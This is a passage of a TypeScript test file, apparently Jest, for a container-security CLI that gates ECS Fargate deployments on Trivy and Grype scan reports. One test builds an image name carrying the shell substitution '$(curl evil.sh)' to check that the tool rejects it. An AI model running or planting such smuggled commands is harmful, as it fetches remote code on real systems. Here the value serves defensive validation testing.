import { existsSync, mkdirSync, readFileSync, statSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { DEFAULT_MAX_REPORT_BYTES } from '../../functions/core/report-size';
import type { EvaluationResult } from '../../functions/core/result/model';
import { parseJunit } from '../core/render/junit-xml';
import { ANSI, FIXTURE_NOW, REPO_ROOT, cli, fixture, tempDir } from './harness';

const ROOT_CRITICAL = fixture('trivy-payments-api-root-critical.json');
const NONROOT = fixture('trivy-payments-api-nonroot.json');
const UNFIXED_CRITICAL = fixture('trivy-ledger-worker-unfixed-critical.json');
const IMAGE_SECRET = fixture('trivy-payments-api-image-secret.json');
const GRYPE_SIDECAR = fixture('grype-log-router.json');
const TASKDEF = fixture('taskdef-payments.json');
const BUSYBOX = fixture('trivy-busybox-1.36-nonroot.json');
const BUSYBOX_DIGEST = 'sha256:7b3ccabffc97de872a30dfd234fd972a66d247c8cfc69b0550f276481852627c';
const TEAM_APP_TASKDEF = fixture('taskdef-team-app.json');
const TEAM_APP_IMAGE = '123456789012.dkr.ecr.eu-west-1.amazonaws.com/team/app:1.2.3';
const NONROOT_DIGEST = 'sha256:9a3e5c7b1d2f4e6a8c0b2d4f6e8a0c2e4b6d8f0a2c4e6b8d0f2a4c6e8b0d2f41';
const AUDIT_POLICY = join(REPO_ROOT, 'policies/audit.json');
const DEFAULT_POLICY = join(REPO_ROOT, 'policies/default.json');
/** The plaintext value in overrides-plaintext-key.json: it must never reach any output. */
const PLAINTEXT_SECRET = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY';

function json(stdout: string): EvaluationResult {
  return JSON.parse(stdout) as EvaluationResult;
}

/** A copy of a Trivy report with its image identity changed (ArtifactName, RepoDigests), written to `path`. */
function trivyVariant(base: string, path: string, identity: { artifactName?: string; repoDigests?: string[]; notAnImage?: boolean }): string {
  const report = JSON.parse(readFileSync(base, 'utf8')) as { ArtifactName?: string; ArtifactType?: string; Metadata: Record<string, unknown> };
  if ('artifactName' in identity) report.ArtifactName = identity.artifactName;
  if ('repoDigests' in identity) report.Metadata.RepoDigests = identity.repoDigests;
  if (identity.notAnImage) {
    // What `trivy fs` / `trivy repo` write: no image id, no image config, no digests.
    report.ArtifactType = 'filesystem';
    for (const key of ['ImageID', 'ImageConfig', 'RepoDigests', 'RepoTags', 'DiffIDs']) delete report.Metadata[key];
  }
  writeFileSync(path, JSON.stringify(report));
  return path;
}

/** A one-container task definition running `image`, written to `path`. */
function taskdefRunning(image: string, path: string, name = 'app'): string {
  writeFileSync(path, JSON.stringify({ family: 'one', containerDefinitions: [{ name, image, essential: true, environment: [] }] }));
  return path;
}

function keys(result: EvaluationResult): string[] {
  return result.violations.map((v) => `${v.action} ${v.rule} ${v.container ?? '-'} ${v.id}`).sort();
}

describe('fargate-gate evaluate: decisions and exit codes', () => {
  it('fails a root image with a fixable critical vulnerability: exit 1, both violations', async () => {
    const run = await cli(['evaluate', '--report', ROOT_CRITICAL, '--format', 'json']);
    expect(run.code).toBe(1);
    const result = json(run.stdout);
    expect(result.decision).toBe('fail');
    expect(keys(result)).toEqual(['deny rootUser - rootUser', 'deny vulnerabilities - CVE-2024-45491']);
    // The HIGH without a fix and the MEDIUM are below the default policy's thresholds.
    expect(result.violations.map((v) => v.id)).not.toContain('CVE-2023-52425');
    expect(run.stderr).toBe('');
  });

  it('passes a non-root image with only medium and low findings: exit 0', async () => {
    const run = await cli(['evaluate', '--report', NONROOT, '--format', 'json']);
    expect(run.code).toBe(0);
    expect(json(run.stdout)).toMatchObject({ decision: 'pass', violations: [] });
  });

  it('warns on an unfixable critical vulnerability and still exits 0', async () => {
    const run = await cli(['evaluate', '--report', UNFIXED_CRITICAL, '--format', 'json']);
    expect(run.code).toBe(0);
    const result = json(run.stdout);
    expect(result.decision).toBe('warn');
    expect(keys(result)).toEqual(['warn vulnerabilities - CVE-2023-45853']);
  });

  it('--fail-on warn makes a warning exit 1, with the same result; fail (the default) keeps it 0', async () => {
    const warned = await cli(['evaluate', '--report', UNFIXED_CRITICAL, '--format', 'json', '--fail-on', 'warn']);
    expect(warned.code).toBe(1);
    expect(json(warned.stdout).decision).toBe('warn');
    expect((await cli(['evaluate', '--report', UNFIXED_CRITICAL, '--format', 'json', '--fail-on', 'fail'])).code).toBe(0);
    expect((await cli(['evaluate', '--report', UNFIXED_CRITICAL, '--format', 'json'])).code).toBe(0);
    // A pass stays 0 and a denial stays 1 under either.
    expect((await cli(['evaluate', '--report', NONROOT, '--fail-on', 'warn'])).code).toBe(0);
    expect((await cli(['evaluate', '--report', ROOT_CRITICAL, '--fail-on', 'warn'])).code).toBe(1);
  });

  it('--fail-on warn does not override an audit-mode policy, and refuses other values with exit 2', async () => {
    expect((await cli(['evaluate', '--report', UNFIXED_CRITICAL, '--policy', AUDIT_POLICY, '--fail-on', 'warn'])).code).toBe(0);
    const bad = await cli(['evaluate', '--report', UNFIXED_CRITICAL, '--fail-on', 'high']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain("option '--fail-on <DECISION>' argument 'high' is invalid. Allowed choices are fail, warn.");
  });

  it('fails an image with a critical secret in a layer', async () => {
    const run = await cli(['evaluate', '--report', IMAGE_SECRET, '--format', 'json']);
    expect(run.code).toBe(1);
    expect(keys(json(run.stdout))).toEqual(['deny secrets - aws-access-key-id']);
  });

  it('reads Grype reports: the image config without a user means root', async () => {
    const run = await cli(['evaluate', '--report', GRYPE_SIDECAR, '--format', 'json']);
    expect(run.code).toBe(1);
    const result = json(run.stdout);
    expect(keys(result)).toEqual(['deny rootUser - rootUser']);
    expect(result.subject.images[0]).toMatchObject({ scanner: 'grype', scannerVersion: '0.87.0' });
  });

  it('exits 0 under an audit-mode policy even when the result is a failure', async () => {
    const run = await cli(['evaluate', '--report', ROOT_CRITICAL, '--policy', AUDIT_POLICY, '--format', 'json']);
    expect(run.code).toBe(0);
    expect(json(run.stdout)).toMatchObject({ decision: 'fail', mode: 'audit', policy: { name: 'fargate-gate/audit' } });
  });

  it('judges a report as it is by default; --check-scan-age applies maxScanAge (exit 2, decision error); --now moves the clock', async () => {
    const monthLater = { now: new Date('2025-07-03T00:00:00Z') };
    const asIs = await cli(['evaluate', '--report', NONROOT, '--format', 'json'], monthLater);
    expect(asIs.code).toBe(0);
    expect(json(asIs.stdout)).toMatchObject({ decision: 'pass', errors: [] });

    const stale = await cli(['evaluate', '--report', NONROOT, '--format', 'json', '--check-scan-age'], monthLater);
    expect(stale.code).toBe(2);
    const result = json(stale.stdout);
    expect(result.decision).toBe('error');
    expect(result.errors).toEqual([expect.objectContaining({ message: expect.stringContaining("older than the policy's maxScanAge") })]);

    const asOfThen = await cli(['evaluate', '--report', NONROOT, '--format', 'json', '--check-scan-age', '--now', '2025-06-03T08:00:00Z'], monthLater);
    expect(asOfThen.code).toBe(0);
    expect(json(asOfThen.stdout)).toMatchObject({ decision: 'pass', evaluatedAt: '2025-06-03T08:00:00.000Z' });
  });

  it('passes on what the report could not tell as a warning on stderr (no image config: the user is unknown)', async () => {
    const tmp = tempDir();
    try {
      const report = JSON.parse(readFileSync(NONROOT, 'utf8')) as { Metadata: Record<string, unknown> };
      delete report.Metadata.ImageConfig;
      writeFileSync(tmp.path('no-config.json'), JSON.stringify(report));
      const run = await cli(['evaluate', '--report', tmp.path('no-config.json'), '--format', 'json']);
      expect(run.stderr).toBe(`fargate-gate: warning: ${tmp.path('no-config.json')}: the report has no Metadata.ImageConfig, so the image user and environment are unknown\n`);
      expect(run.code).toBe(1);
      const [violation] = json(run.stdout).violations;
      expect(violation).toMatchObject({ rule: 'rootUser', details: { imageConfigKnown: false } });
      expect(violation.message).toMatch(/may run as root/);
    } finally {
      tmp.cleanup();
    }
  });

  it('records --cluster and --service in the result subject', async () => {
    const run = await cli(['evaluate', '-r', NONROOT, '-f', 'json', '--cluster', 'prod', '--service', 'payments']);
    expect(json(run.stdout).subject).toMatchObject({ cluster: 'prod', service: 'payments' });
  });
});

describe('fargate-gate evaluate: a Grype report from before the fix object (Grype 0.7-0.12)', () => {
  // test/core/findings/grype.test.ts cites the schema: `vulnerability.fixedInVersion`, omitted when no fix is known.
  const LEGACY_GRYPE = join(REPO_ROOT, 'test/fixtures/reports/grype/legacy-0.10-fixed-in-version.json');

  it('denies the fixable HIGH it states with fixedInVersion (exit 1), and says which matches name no fix', async () => {
    const run = await cli(['evaluate', '--report', LEGACY_GRYPE, '--policy', DEFAULT_POLICY, '--format', 'json']);
    expect(run.code).toBe(1);
    const result = json(run.stdout);
    expect(result.decision).toBe('fail');
    // openssl's HIGH has a fix (deny); the CRITICAL without fixedInVersion is judged unfixable (warn); user 1000 is not root.
    expect(keys(result)).toEqual(['deny vulnerabilities - CVE-2019-1547', 'warn vulnerabilities - CVE-2019-12900']);
    expect(run.stderr).toContain(`fargate-gate: warning: ${LEGACY_GRYPE}: vulnerabilities with neither vulnerability.fix`);
  });
});

describe('fargate-gate evaluate: an image name the images rule cannot read (policies/strict.json)', () => {
  let tmp: ReturnType<typeof tempDir>;
  beforeAll(() => (tmp = tempDir()));
  afterAll(() => tmp.cleanup());
  const STRICT = join(REPO_ROOT, 'policies/strict.json');

  it.each([
    ['a Cyrillic letter that looks Latin', `${TEAM_APP_IMAGE.replace('team/app', 'te\u0430m/app')}`],
    ['shell metacharacters', `${TEAM_APP_IMAGE}$(curl evil.sh)`],
  ])('fails a bare report whose image name has %s (exit 1), as a task definition naming it does', async (_label, name) => {
    const report = trivyVariant(NONROOT, tmp.path('bad-name.json'), { artifactName: name, repoDigests: [] });
    const bare = await cli(['evaluate', '--report', report, '--policy', STRICT, '--format', 'json']);
    expect(bare.code).toBe(1);
    const images = json(bare.stdout).violations.filter((v) => v.rule === 'images');
    expect(images.map((v) => [v.id, v.action])).toEqual([['images.reference', 'deny']]);
    expect(images[0].message).toContain(`the report names the image ${JSON.stringify(name)}, which is not a valid image reference`);
  });
});

describe('fargate-gate evaluate: output formats', () => {
  it('table (default): decision, violations, no colour when stdout is not a terminal', async () => {
    const run = await cli(['evaluate', '--report', ROOT_CRITICAL]);
    expect(run.code).toBe(1);
    expect(run.stdout).toMatch(/^FAIL\s+policy "fargate-gate\/default"/);
    expect(run.stdout).toContain('CVE-2024-45491');
    expect(run.stdout).toContain('rootUser');
    expect(run.stdout).not.toMatch(ANSI);
  });

  it('table to a CI log (not a terminal): messages whole, with the fixed version and the Secrets Manager advice', async () => {
    const run = await cli(['evaluate', '--report', ROOT_CRITICAL]);
    const row = run.stdout.split('\n').find((line) => line.includes('CVE-2024-45491'))!;
    expect(row).toMatch(/fixed in \S+; upgrade libexpat1 or rebuild on a patched base image$/);
    expect(run.stdout).not.toContain('...');
    const overrides = await cli(['evaluate', '-t', TASKDEF, '-r', `api=${NONROOT}`, `log-router=${GRYPE_SIDECAR}`, '--overrides', fixture('overrides-plaintext-key.json')]);
    expect(overrides.stdout).toMatch(/move it to `secrets` with `valueFrom` \(Secrets Manager or SSM Parameter Store\) and rotate it$/m);
  });

  it('table on a terminal without colour (NO_COLOR): fitted to the width, messages wrapped, no escape codes', async () => {
    const run = await cli(['evaluate', '--report', ROOT_CRITICAL], { isTty: false, columns: 100 });
    expect(run.stdout).not.toMatch(ANSI);
    const violations = run.stdout.slice(run.stdout.indexOf('Violations')).split('\n').filter(Boolean);
    expect(violations.length).toBeGreaterThan(4);
    for (const line of violations) expect(line.length).toBeLessThanOrEqual(100);
    expect(violations.join(' ').replace(/\s+/g, ' ')).toContain('upgrade libexpat1 or rebuild on a patched base image');
  });

  it('table on a terminal: colour, and lines fitted to the terminal width', async () => {
    const narrow = await cli(['evaluate', '--report', ROOT_CRITICAL], { isTty: true, columns: 80 });
    expect(narrow.stdout).toMatch(ANSI);
    const plainLines = (text: string) => text.replace(new RegExp(ANSI.source, 'g'), '').split('\n');
    const narrowLines = plainLines(narrow.stdout).filter((line) => line.includes('CVE-2024-45491'));
    expect(narrowLines.length).toBeGreaterThan(0);
    for (const line of narrowLines) expect(line.length).toBeLessThanOrEqual(80);

    const wide = await cli(['evaluate', '--report', ROOT_CRITICAL], { isTty: true, columns: 200 });
    const wideRow = plainLines(wide.stdout).find((line) => line.includes('CVE-2024-45491') && line.includes('DENY'));
    expect(wideRow!.length).toBeGreaterThan(80);
    expect(wideRow).toContain('upgrade libexpat1');
  });

  it('json: the full result, parseable, with the policy identity', async () => {
    const run = await cli(['evaluate', '--report', ROOT_CRITICAL, '--format', 'json']);
    const result = json(run.stdout);
    expect(result.policy).toEqual({ name: 'fargate-gate/default', hash: expect.stringMatching(/^[0-9a-f]{64}$/), schemaVersion: '1' });
    expect(result.evaluatedAt).toBe(FIXTURE_NOW.toISOString());
    expect(result.subject.images).toEqual([
      expect.objectContaining({
        reference: '111122223333.dkr.ecr.eu-west-1.amazonaws.com/payments-api:2.3.1',
        digest: 'sha256:4f9c2b7a61d0e8f3c5a2b1d9e7f6a3c8b0d4e2f1a9c7b5d3e1f0a8c6b4d2e0f9',
        scanner: 'trivy',
      }),
    ]);
  });

  it('junit: failures for denied rules and findings, one case per rule the default policy has', async () => {
    const run = await cli(['evaluate', '--report', ROOT_CRITICAL, '--format', 'junit']);
    expect(run.code).toBe(1);
    const suite = parseJunit(run.stdout);
    expect(suite.counts.failures).toBeGreaterThanOrEqual(2);
    expect(suite.properties.decision).toBe('fail');
    const ruleCases = suite.cases.filter((c) => c.classname === 'fargate-gate.rules');
    expect(Object.fromEntries(ruleCases.map((c) => [c.name, c.status]))).toEqual({
      rootUser: 'failure',
      vulnerabilities: 'failure',
      secrets: 'passed',
      // A bare report has no task definition: the hardening rules the default policy enables are skipped, never passed.
      'hardening.privileged': 'skipped',
      'hardening.hostNetwork': 'skipped',
      'hardening.hostPid': 'skipped',
      'hardening.hostIpc': 'skipped',
      'hardening.capabilities': 'skipped',
      'hardening.environmentFiles': 'skipped',
      'hardening.execCommand': 'skipped',
      'hardening.platformVersion': 'skipped',
      'hardening.publicIp': 'skipped',
    });
    expect(suite.cases.some((c) => c.status === 'failure' && c.name.startsWith('CVE-2024-45491'))).toBe(true);
  });

  it('junit: a rule the policy disables or lacks is not listed as passed', async () => {
    const run = await cli(['evaluate', '--report', IMAGE_SECRET, '--format', 'junit', '--policy', fixture('policy-root-and-vulns.json')]);
    expect(run.code).toBe(0);
    const ruleCases = parseJunit(run.stdout).cases.filter((c) => c.classname === 'fargate-gate.rules');
    // secrets is present but disabled, misconfigurations and images are absent.
    expect(ruleCases.map((c) => c.name)).toEqual(['rootUser', 'vulnerabilities']);
    expect(ruleCases.every((c) => c.status === 'passed')).toBe(true);
  });

  it('markdown: heading with the decision and a violations table', async () => {
    const run = await cli(['evaluate', '--report', ROOT_CRITICAL, '--format', 'markdown']);
    expect(run.code).toBe(1);
    expect(run.stdout).toMatch(/^## fargate-gate: FAIL/m);
    expect(run.stdout).toMatch(/^\| Action \| Rule \| Container \| ID \| Severity \| Message \|$/m);
    expect(run.stdout).toMatch(/^\| deny \| vulnerabilities \| - \| CVE-2024-45491 \| critical \|/m);
  });

  it('--output writes the file, keeps stdout empty and prints a one-line summary on stderr', async () => {
    const tmp = tempDir();
    try {
      const run = await cli(['evaluate', '--report', ROOT_CRITICAL, '--format', 'json', '--output', 'result.json'], { cwd: tmp.dir });
      expect(run.code).toBe(1);
      expect(run.stdout).toBe('');
      expect(run.stderr).toBe('fargate-gate: FAIL (2 violation(s)); json written to result.json\n');
      expect(json(readFileSync(tmp.path('result.json'), 'utf8')).decision).toBe('fail');

      // A table written to a file carries no colour codes, whatever the terminal.
      const table = await cli(['evaluate', '--report', ROOT_CRITICAL, '--output', tmp.path('result.txt')], { isTty: true, columns: 60 });
      expect(table.code).toBe(1);
      const text = readFileSync(tmp.path('result.txt'), 'utf8');
      expect(text).toContain('CVE-2024-45491');
      expect(text).not.toMatch(ANSI);
    } finally {
      tmp.cleanup();
    }
  });
});

describe('fargate-gate evaluate: task definitions and overrides', () => {
  it('judges each container: the task-definition user decides for the sidecar, the image config for the app', async () => {
    const run = await cli(['evaluate', '-t', TASKDEF, '-r', `api=${ROOT_CRITICAL}`, '-r', `log-router=${GRYPE_SIDECAR}`, '-f', 'json']);
    expect(run.code).toBe(1);
    const result = json(run.stdout);
    expect(keys(result)).toEqual(['deny rootUser api rootUser', 'deny vulnerabilities api CVE-2024-45491']);
    expect(result.subject.taskDefinition).toBe('arn:aws:ecs:eu-west-1:111122223333:task-definition/payments:7');
    expect(result.subject.images.map((i) => i.container)).toEqual(['api', 'log-router']);
    expect(run.stderr).toBe('');
  });

  it('matches unnamed reports to containers by image repository', async () => {
    const named = await cli(['evaluate', '-t', TASKDEF, '-r', `api=${ROOT_CRITICAL}`, '-r', `log-router=${GRYPE_SIDECAR}`, '-f', 'json']);
    const unnamed = await cli(['evaluate', '-t', TASKDEF, '-r', GRYPE_SIDECAR, ROOT_CRITICAL, '-f', 'json']);
    expect(unnamed.code).toBe(1);
    expect(json(unnamed.stdout)).toEqual(json(named.stdout));
  });

  it('a container without a report is judged on its settings and flagged, and onScanError decides', async () => {
    const run = await cli(['evaluate', '-t', TASKDEF, '-r', `log-router=${GRYPE_SIDECAR}`, '-f', 'json']);
    expect(run.stderr).toContain('no report for container "api"');
    const result = json(run.stdout);
    expect(result.decision).toBe('error');
    expect(run.code).toBe(2);
    expect(result.errors).toEqual([expect.objectContaining({ container: 'api' })]);
  });

  it('rejects a report of another digest of the same repository when the task definition pins a digest (exit 2)', async () => {
    const tmp = tempDir();
    try {
      const pinned = 'sha256:' + 'ab'.repeat(32);
      const doc = JSON.parse(readFileSync(TASKDEF, 'utf8')) as { taskDefinition: { containerDefinitions: { image: string }[] } };
      doc.taskDefinition.containerDefinitions[0].image = `111122223333.dkr.ecr.eu-west-1.amazonaws.com/payments-api@${pinned}`;
      writeFileSync(tmp.path('pinned.json'), JSON.stringify(doc));
      const argv = ['evaluate', '-t', tmp.path('pinned.json'), '-r', `api=${NONROOT}`, `log-router=${GRYPE_SIDECAR}`, '-f', 'json'];
      const run = await cli(argv);
      expect(run.code).toBe(2);
      expect(run.stdout).toBe('');
      expect(run.stderr).toContain(`${NONROOT}: `);
      expect(run.stderr).toContain(`container "api" runs 111122223333.dkr.ecr.eu-west-1.amazonaws.com/payments-api@${pinned}`);
      expect(run.stderr).toContain(NONROOT_DIGEST);
      expect(run.stderr).toContain('multi-platform image index');
      expect(run.stderr).toContain('--allow-image-mismatch');

      // Told to, it judges the container by the report, and records only the digest the container runs.
      const allowed = await cli([...argv, '--allow-image-mismatch']);
      expect(allowed.code).toBe(0);
      expect(allowed.stderr).toMatch(/^fargate-gate: warning: .*--allow-image-mismatch/m);
      expect(json(allowed.stdout).subject.images[0]).toMatchObject({ container: 'api', digest: pinned });
      expect(allowed.stdout).not.toContain(NONROOT_DIGEST);
    } finally {
      tmp.cleanup();
    }
  });

  it('accepts the report when the pinned digest is one it names, whatever the repository (a copy in another registry)', async () => {
    const tmp = tempDir();
    try {
      const taskdef = taskdefRunning(`123456789012.dkr.ecr.eu-west-1.amazonaws.com/mirror/payments-api@${NONROOT_DIGEST}`, tmp.path('td.json'));
      const run = await cli(['evaluate', '-t', taskdef, '-r', NONROOT, '-f', 'json']);
      expect(run.code).toBe(0);
      expect(run.stderr).toBe('');
      expect(json(run.stdout).subject.images[0]).toMatchObject({ container: 'app', digest: NONROOT_DIGEST });
    } finally {
      tmp.cleanup();
    }
  });
  it('names an unreadable overrides file as a file ("the RunTask overrides file is empty"), in grammatical English', async () => {
    const tmp = tempDir();
    try {
      writeFileSync(tmp.path('empty.json'), '');
      writeFileSync(tmp.path('broken.json'), '{ "containerOverrides": [');
      const empty = await cli(['evaluate', '-t', TASKDEF, '-r', `api=${NONROOT}`, '--overrides', tmp.path('empty.json')]);
      expect(empty.code).toBe(2);
      expect(empty.stderr).toContain(`${tmp.path('empty.json')}: the RunTask overrides file is empty`);
      const broken = await cli(['evaluate', '-t', TASKDEF, '-r', `api=${NONROOT}`, '--overrides', tmp.path('broken.json')]);
      expect(broken.stderr).toContain('the RunTask overrides file is not valid JSON');
      expect(empty.stderr + broken.stderr).not.toContain('overrides is');
    } finally {
      tmp.cleanup();
    }
  });

  it('applies RunTask overrides: a plaintext credential in the override environment fails, and is never printed', async () => {
    for (const format of ['json', 'table', 'junit', 'markdown']) {
      const run = await cli([
        'evaluate',
        '-t',
        TASKDEF,
        '-r',
        `api=${NONROOT}`,
        `log-router=${GRYPE_SIDECAR}`,
        '--overrides',
        fixture('overrides-plaintext-key.json'),
        '-f',
        format,
      ]);
      expect(run.code).toBe(1);
      expect(run.stdout + run.stderr).not.toContain(PLAINTEXT_SECRET);
      if (format === 'json') {
        const result = json(run.stdout);
        expect(keys(result)).toEqual(['deny secrets api plaintext-credential']);
        expect(result.violations[0].details).toMatchObject({ variable: 'AWS_SECRET_ACCESS_KEY', location: 'overrides' });
      }
    }
  });

  it('without the overrides the same task passes', async () => {
    const run = await cli(['evaluate', '-t', TASKDEF, '-r', `api=${NONROOT}`, `log-router=${GRYPE_SIDECAR}`, '-f', 'json']);
    expect(run.code).toBe(0);
    expect(json(run.stdout).decision).toBe('pass');
  });
});

describe('fargate-gate evaluate: a report must be a scan of the image the container runs', () => {
  let tmp: ReturnType<typeof tempDir>;
  beforeAll(() => {
    tmp = tempDir();
  });
  afterAll(() => tmp.cleanup());

  it('rejects a scan of another image for the only container of a task definition: exit 2, naming both images', async () => {
    for (const report of [BUSYBOX, `app=${BUSYBOX}`]) {
      const run = await cli(['evaluate', '-t', TEAM_APP_TASKDEF, '-r', report, '-f', 'json']);
      expect(run.code).toBe(2);
      expect(run.stdout).toBe('');
      expect(run.stderr).toContain(`fargate-gate: ${BUSYBOX}: `);
      expect(run.stderr).toContain('docker.io/library/busybox:1.36');
      expect(run.stderr).toContain(`container "app" runs ${TEAM_APP_IMAGE}`);
      expect(run.stderr).not.toContain('unexpected error');
    }
  });

  it('--allow-image-mismatch judges the container by the report anyway, warns, and never pairs the app with busybox\'s digest', async () => {
    const run = await cli(['evaluate', '-t', TEAM_APP_TASKDEF, '-r', BUSYBOX, '-f', 'json', '--allow-image-mismatch']);
    expect(run.code).toBe(0);
    expect(run.stderr).toMatch(/^fargate-gate: warning: .*busybox:1\.36.*team\/app:1\.2\.3/m);
    const [image] = json(run.stdout).subject.images;
    expect(image).toMatchObject({ container: 'app', reference: TEAM_APP_IMAGE });
    expect(image.digest).toBeUndefined();
    expect(run.stdout).not.toContain(BUSYBOX_DIGEST);
  });

  it('matches by registry and repository: another tag of the same repository is accepted with a warning', async () => {
    const run = await cli(['evaluate', '-t', TASKDEF, '-r', `api=${NONROOT}`, `log-router=${GRYPE_SIDECAR}`, '-f', 'json']);
    expect(run.code).toBe(0);
    expect(run.stderr).toContain('payments-api:2.3.2');
    expect(run.stderr).toMatch(/^fargate-gate: warning: .*tag/m);
    // The scanned digest belongs to this repository: it is the digest recorded for the container.
    expect(json(run.stdout).subject.images[0]).toMatchObject({ container: 'api', digest: NONROOT_DIGEST });
  });

  it('takes Docker Hub\'s other host names for docker.io when matching', async () => {
    const taskdef = taskdefRunning('busybox:1.36', tmp.path('busybox-td.json'));
    const report = trivyVariant(BUSYBOX, tmp.path('busybox-registry-1.json'), {
      artifactName: 'registry-1.docker.io/library/busybox:1.36',
      repoDigests: [`index.docker.io/library/busybox@${BUSYBOX_DIGEST}`],
    });
    const run = await cli(['evaluate', '-t', taskdef, '-r', report, '-f', 'json']);
    expect(run.code).toBe(0);
    expect(run.stderr).toBe('');
    expect(json(run.stdout).subject.images[0]).toMatchObject({ container: 'app', reference: 'busybox:1.36', digest: BUSYBOX_DIGEST });
  });

  it('matches on RepoDigests when the artifact name is not a registry reference', async () => {
    const report = trivyVariant(BUSYBOX, tmp.path('busybox-tar-with-digest.json'), { artifactName: 'busybox.tar' });
    const run = await cli(['evaluate', '-t', TEAM_APP_TASKDEF, '-r', report, '-f', 'json']);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain(`container "app" runs ${TEAM_APP_IMAGE}`);
  });

  it('accepts a report of a local tarball (no registry identity) with a warning that it could not be matched, and adds no digest', async () => {
    const report = trivyVariant(BUSYBOX, tmp.path('app-tar.json'), { artifactName: 'build/app.tar', repoDigests: [] });
    const run = await cli(['evaluate', '-t', TEAM_APP_TASKDEF, '-r', report, '-f', 'json']);
    expect(run.code).toBe(0);
    expect(run.stderr).toBe(
      `fargate-gate: warning: ${report}: the report names no registry image (it scanned "build/app.tar"), so it could not be matched to ` +
        `container "app" (${TEAM_APP_IMAGE}); it is judged as that container's image\n`,
    );
    expect(json(run.stdout).subject.images[0]).toEqual(expect.objectContaining({ container: 'app', reference: TEAM_APP_IMAGE }));
    expect(json(run.stdout).subject.images[0].digest).toBeUndefined();
  });

  it('tells a file or directory from an image name: reference-like paths, Grype source schemes, fs and repo scans', async () => {
    for (const [artifactName, notAnImage] of [
      ['testdata/fixtures/images/alpine-39.tar.gz', false],
      ['docker-archive:app.tar', false],
      ['oci-dir:layout', false],
      ['./app', false],
      ['src/team/app', true],
    ] as const) {
      const report = trivyVariant(BUSYBOX, tmp.path('path-like.json'), { artifactName, repoDigests: [], notAnImage });
      // Never refused as another image; an fs scan is refused as no image scan unless named (then rootUser decides 1: no image config).
      const run = await cli(['evaluate', '-t', TEAM_APP_TASKDEF, '-r', report, '-f', 'json', ...(notAnImage ? ['--allow-non-image-report', 'app'] : [])]);
      expect([artifactName, run.code]).toEqual([artifactName, notAnImage ? 1 : 0]);
      expect(run.stderr).toContain('could not be matched');
    }
    // A Grype source scheme that names an image is read as that image.
    const grypeStyle = trivyVariant(BUSYBOX, tmp.path('docker-scheme.json'), { artifactName: 'docker:busybox:1.36', repoDigests: [] });
    const run = await cli(['evaluate', '-t', TEAM_APP_TASKDEF, '-r', grypeStyle, '-f', 'json']);
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('the report is a scan of docker:busybox:1.36');
  });

  it('a tarball report still proves or disproves a pinned digest', async () => {
    const pinnedOther = taskdefRunning(`123456789012.dkr.ecr.eu-west-1.amazonaws.com/team/app@sha256:${'cd'.repeat(32)}`, tmp.path('pinned-other.json'));
    const pinnedSame = taskdefRunning(`123456789012.dkr.ecr.eu-west-1.amazonaws.com/team/app@${BUSYBOX_DIGEST}`, tmp.path('pinned-same.json'));
    // A Grype-style tarball report: no registry name, but the manifest digest it scanned.
    const report = trivyVariant(BUSYBOX, tmp.path('tar-digest.json'), { artifactName: 'build/app.tar', repoDigests: [`localhost/app@${BUSYBOX_DIGEST}`] });
    const tarOnly = trivyVariant(BUSYBOX, tmp.path('tar-only.json'), { artifactName: 'build/app.tar', repoDigests: [] });
    expect((await cli(['evaluate', '-t', pinnedOther, '-r', report, '-f', 'json'])).code).toBe(2);
    const same = await cli(['evaluate', '-t', pinnedSame, '-r', report, '-f', 'json']);
    expect([same.code, same.stderr]).toEqual([0, '']);
    const unknown = await cli(['evaluate', '-t', pinnedOther, '-r', tarOnly, '-f', 'json']);
    expect(unknown.code).toBe(0);
    expect(unknown.stderr).toContain('could not be matched');
  });
});

describe('fargate-gate evaluate: a report that is not a scan of an image', () => {
  let tmp: ReturnType<typeof tempDir>;
  beforeAll(() => (tmp = tempDir()));
  afterAll(() => tmp.cleanup());
  const GRYPE_DIRECTORY = join(REPO_ROOT, 'test/fixtures/reports/grype/directory-db-built.json');

  it('refuses a trivy fs report for a container with exit 2, naming the waiver for that container', async () => {
    const report = trivyVariant(BUSYBOX, tmp.path('fs.json'), { artifactName: '.', repoDigests: [], notAnImage: true });
    const run = await cli(['evaluate', '-t', TEAM_APP_TASKDEF, '-r', report, '-f', 'json']);
    expect(run.code).toBe(2);
    expect(run.stdout).toBe('');
    expect(run.stderr).toBe(
      `fargate-gate: ${report}: the report is a scan of a filesystem (ArtifactType "filesystem"), not of an image, so it cannot vouch for ` +
        `the image container "app" runs (${TEAM_APP_IMAGE}); scan the image (\`trivy image\`, \`grype IMAGE\`), ` +
        'or pass --allow-non-image-report app to judge the container by this report anyway\n',
    );
  });

  it('refuses a bare trivy fs report too; --allow-non-image-report FILE (or =FILE) judges it, with a warning', async () => {
    const report = trivyVariant(BUSYBOX, tmp.path('fs-bare.json'), { artifactName: '.', repoDigests: [], notAnImage: true });
    const refused = await cli(['evaluate', '-r', report, '-f', 'json']);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain(`cannot vouch for an image; scan the image (\`trivy image\`, \`grype IMAGE\`), or pass --allow-non-image-report ${report} to judge it`);
    for (const waiver of [['--allow-non-image-report', report], [`--allow-non-image-report=${report}`]]) {
      const judged = await cli(['evaluate', '-r', report, ...waiver, '-f', 'json']);
      // No image config in a filesystem scan: the user is unknown, so the default policy's rootUser denies.
      expect(judged.code).toBe(1);
      expect(keys(json(judged.stdout))).toEqual(['deny rootUser - rootUser']);
      expect(judged.stderr).toContain(`fargate-gate: warning: ${report}: the report is a scan of a filesystem (ArtifactType "filesystem"), not of an image; judged as an image anyway (--allow-non-image-report ${report})`);
    }
  });

  it('refuses a Grype directory scan, and a Trivy report that shows nothing of an image', async () => {
    const grype = await cli(['evaluate', '-r', GRYPE_DIRECTORY, '-f', 'json']);
    expect(grype.code).toBe(2);
    expect(grype.stderr).toContain('the report is a scan of a directory (source.type "directory"), not of an image');
    const unstated = tmp.path('unstated.json');
    const doc = JSON.parse(readFileSync(trivyVariant(BUSYBOX, tmp.path('fs-base.json'), { artifactName: 'src', repoDigests: [], notAnImage: true }), 'utf8'));
    delete doc.ArtifactType;
    writeFileSync(unstated, JSON.stringify(doc));
    const run = await cli(['evaluate', '-r', unstated, '-f', 'json']);
    expect(run.code).toBe(2);
